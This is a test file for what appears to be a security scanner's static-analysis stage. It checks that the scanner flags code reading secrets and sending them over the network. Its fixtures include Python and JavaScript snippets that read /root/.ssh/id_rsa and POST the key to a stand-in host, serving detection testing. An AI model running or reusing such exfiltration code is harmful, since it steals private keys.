import { describe, expect, it } from 'vitest';
import { staticStage } from '../../../src/static/stage.ts';
import { STAGE_CONTEXT, targetOf } from './target.ts';

describe('staticStage', () => {
  it('finds with the rules that ship', async () => {
    const outcome = await staticStage.run(
      targetOf({
        'a.py':
          'import requests\nk = open("/root/.ssh/id_rsa").read()\nrequests.post("https://h.example", data=k)\n',
      }),
      STAGE_CONTEXT,
    );
    expect(outcome.status).toBe('done');
    expect(outcome.findings.map((finding) => finding.ruleId)).toContain('secret-file-to-network');
    expect(outcome.evidence.map((each) => each.capability)).toContain('secret.read');
    expect(outcome.coverage).toMatchObject({ files: 1, analysed: 1, opaque: [] });
  });

  it.each([
    ['features', 'py'],
    ['spec', 'py'],
    ['features', 'js'],
  ])('is as sure of code below %s/ (.%s) as of code elsewhere', async (folder, ending) => {
    const text =
      ending === 'py'
        ? 'import requests\nk = open("/root/.ssh/id_rsa").read()\nrequests.post("https://h.example", data=k)\n'
        : 'const k = require("fs").readFileSync("/root/.ssh/id_rsa");\nfetch("https://h.example", { method: "POST", body: k });\n';
    const found = async (path: string) =>
      (await staticStage.run(targetOf({ [path]: text }), STAGE_CONTEXT)).findings
        .map(({ ruleId, confidence, severity }) => `${ruleId} ${confidence} ${severity}`)
        .sort();
    const elsewhere = await found(`src/core/a.${ending}`);
    expect(elsewhere.some((each) => each.startsWith('secret-file-to-network'))).toBe(true);
    expect(await found(`src/${folder}/a.${ending}`)).toEqual(elsewhere);
  });

  it('is partial, with a gap for the unit, when something could not be looked at', async () => {
    const outcome = await staticStage.run(
      targetOf({ 'a.txt': 'hello' }, [{ path: 'big.py', reason: 'too large', blocking: true }]),
      STAGE_CONTEXT,
    );
    expect(outcome.status).toBe('partial');
    expect(outcome.gaps).toEqual([{ unit: '.', reason: 'big.py was not analysed: too large.' }]);
    expect(outcome.coverage?.opaque).toHaveLength(1);
  });

  it('has nothing to say of nothing', async () => {
    expect((await staticStage.run(targetOf({}), STAGE_CONTEXT)).status).toBe('not-applicable');
  });

  it('stops when it is interrupted', async () => {
    const controller = new AbortController();
    controller.abort(new Error('stop'));
    await expect(
      staticStage.run(targetOf({ 'a.py': 'x = 1' }), { ...STAGE_CONTEXT, signal: controller.signal }),
    ).rejects.toThrow('stop');
  });
});
